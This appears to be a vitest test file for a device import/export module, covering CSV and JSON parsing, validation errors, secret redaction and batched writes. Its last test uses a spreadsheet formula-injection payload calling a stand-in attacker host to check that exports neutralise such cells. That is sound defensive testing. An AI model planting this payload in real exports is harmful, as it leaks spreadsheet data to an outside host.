import { describe, expect, it } from 'vitest';
import { DeviceInputSchema } from '../../../shared/contract/devices';
import { exportDevices, importDevices } from './import-export';
import { testRegistry } from './test-registry';

const CSV = `name,kind,host,port,family,interval_seconds,snmp_version,snmp_community,snmp_user,snmp_level,snmp_auth_protocol,snmp_auth_key,snmp_priv_protocol,snmp_priv_key,parent
core-sw,snmp,10.0.0.1,,auto,60,2c,public-ro,,,,,,,
nas,snmp,nas.example.org,161,auto,120,3,,monitor,authPriv,sha,authpass123,aes,privpass123,core-sw
bad-host,snmp,not a host!,,auto,60,2c,x,,,,,,,
bad-interval,snmp,10.0.0.3,,auto,5,2c,x,,,,,,,
core-sw,snmp,10.0.0.9,,auto,60,2c,x,,,,,,,
`;

describe('device import and export', () => {
  it('adds the good CSV rows and reports each bad one with its line and reason', async () => {
    const { registry } = testRegistry();
    const added: string[] = [];
    const r = await importDevices(registry, 'csv', CSV, false, (id) => added.push(id));
    expect(r.added).toBe(2);
    expect(r.rejected.map((x) => [x.line, x.name])).toEqual([
      [4, 'bad-host'],
      [5, 'bad-interval'],
      [6, 'core-sw'],
    ]);
    expect(r.rejected[0]!.reason).toBe('host: not a valid host name or IP address');
    expect(r.rejected[1]!.reason).toMatch(/^intervalSeconds: Too small: expected number to be >=10/);
    expect(r.rejected[2]!.reason).toBe('name: repeated in this file');
    const nas = registry.get('nas');
    expect(nas.snmp).toMatchObject({ version: '3', user: 'monitor', authProtocol: 'sha', privProtocol: 'aes' });
    expect(nas.parentId).toBe('core-sw');
    expect(await registry.secret('nas')).toEqual({ authKey: 'authpass123', privKey: 'privpass123' });
    expect(added).toEqual(['core-sw', 'nas']);
  });

  it('writes the settings once and the secrets once for a whole file, and polls devices only once stored', async () => {
    const { registry, settings, secrets } = testRegistry();
    const writes = { settings: 0, secrets: 0 };
    const update = settings.update.bind(settings);
    settings.update = (change) => {
      writes.settings += 1;
      return update(change);
    };
    const setMany = secrets.setMany.bind(secrets);
    secrets.set = () => Promise.reject(new Error('one secret written alone'));
    secrets.setMany = (entries) => {
      writes.secrets += 1;
      return setMany(entries);
    };
    const rows = Array.from({ length: 300 }, (_, i) => `host-${i},snmp,10.1.${Math.floor(i / 200)}.${(i % 200) + 1},,auto,60,2c,c-${i},,,,,,,`);
    const storedWhenPolled: number[] = [];
    const r = await importDevices(registry, 'csv', `${CSV.split('\n')[0]}\n${rows.join('\n')}\n`, false, () => {
      storedWhenPolled.push(settings.get().devices.length);
    });
    expect(r.added).toBe(300);
    expect(writes).toEqual({ settings: 1, secrets: 1 });
    expect(settings.get().devices).toHaveLength(300);
    expect(new Set(storedWhenPolled)).toEqual(new Set([300]));
    expect(await registry.secret('host-299')).toEqual({ community: 'c-299' });
  });

  it('refuses unknown columns as a whole and a dry run adds nothing', async () => {
    const { registry } = testRegistry();
    await expect(importDevices(registry, 'csv', 'name,host,colour\na,10.0.0.1,red\n', false, () => undefined)).rejects.toThrow(
      /Unknown CSV column\(s\): colour/,
    );
    const r = await importDevices(registry, 'csv', CSV, true, () => undefined);
    expect(r.added).toBe(2);
    expect(registry.list()).toEqual([]);
  });

  it('exports without any secret and re-imports the same devices', async () => {
    const a = testRegistry();
    await importDevices(a.registry, 'csv', CSV, false, () => undefined);
    for (const format of ['csv', 'json'] as const) {
      const out = exportDevices(a.registry, format);
      expect(out.text).not.toMatch(/public-ro|authpass123|privpass123/);
      const b = testRegistry();
      const r = await importDevices(b.registry, format, out.text, false, () => undefined);
      expect(r.rejected).toEqual([]);
      expect(b.registry.list().map((d) => [d.name, d.host, d.family, d.intervalSeconds])).toEqual(
        a.registry.list().map((d) => [d.name, d.host, d.family, d.intervalSeconds]),
      );
    }
  });

  it('reports malformed JSON clearly', async () => {
    const { registry } = testRegistry();
    await expect(importDevices(registry, 'json', '{"devices": [', false, () => undefined)).rejects.toThrow(/Not valid JSON/);
    await expect(importDevices(registry, 'json', '{"x": 1}', false, () => undefined)).rejects.toThrow(/Expected a JSON array/);
  });

  it('refuses a null or non-object JSON entry by line and says exactly which rows went in', async () => {
    const { registry } = testRegistry();
    const json = JSON.stringify([
      { name: 'a', kind: 'snmp', host: '10.0.0.1', snmp: { version: '2c' }, secret: { community: 'c1' } },
      null,
      { name: 'b', kind: 'snmp', host: '10.0.0.2', snmp: { version: '2c' }, secret: { community: 'c2' } },
      7,
    ]);
    const r = await importDevices(registry, 'json', json, false, () => undefined);
    expect(r.added).toBe(2);
    expect(r.addedRows).toEqual([
      { line: 1, name: 'a' },
      { line: 3, name: 'b' },
    ]);
    expect(r.rejected).toEqual([
      { line: 2, name: '', reason: 'row: expected a device object, got null' },
      { line: 4, name: '', reason: 'row: expected a device object, got number' },
    ]);
    expect(r.missingCredential).toEqual([]);
    expect(registry.list().map((d) => d.name)).toEqual(['a', 'b']);
  });

  it('names, at import, each row whose device lacks its credential (a CSV round trip)', async () => {
    const a = testRegistry();
    await importDevices(a.registry, 'csv', CSV, false, () => undefined);
    const b = testRegistry();
    for (const dryRun of [true, false]) {
      const r = await importDevices(b.registry, 'csv', exportDevices(a.registry, 'csv').text, dryRun, () => undefined);
      expect(r.missingCredential).toEqual([
        { line: 2, name: 'core-sw', reason: 'Credential missing (SNMP community): edit the device and enter it' },
        {
          line: 3,
          name: 'nas',
          reason: 'Credential missing (SNMPv3 authentication key, SNMPv3 privacy key): edit the device and enter it',
        },
      ]);
    }
    expect(b.registry.list().map((d) => [d.name, d.hasSecret])).toEqual([
      ['core-sw', false],
      ['nas', false],
    ]);
  });

  it('writes formula-like cells as text in a CSV export and reads them back unchanged', async () => {
    const a = testRegistry();
    const evil = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';
    await a.registry.add(DeviceInputSchema.parse({ name: evil, kind: 'snmp', host: '10.0.0.7', snmp: { version: '2c' }, secret: { community: 'c' } }));
    await a.registry.add(DeviceInputSchema.parse({ name: '@cmd', kind: 'snmp', host: '10.0.0.8', snmp: { version: '2c' }, secret: { community: 'c' } }));
    const text = exportDevices(a.registry, 'csv').text;
    const cells = text.split('\n')[1]!;
    expect(cells.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(text).toContain("'@cmd,");
    expect(text).not.toMatch(/(^|\n|,)"?[=+@-]/);
    const b = testRegistry();
    const r = await importDevices(b.registry, 'csv', text, false, () => undefined);
    expect(r.rejected).toEqual([]);
    expect(b.registry.list().map((d) => d.name)).toEqual([evil, '@cmd']);
  });
});
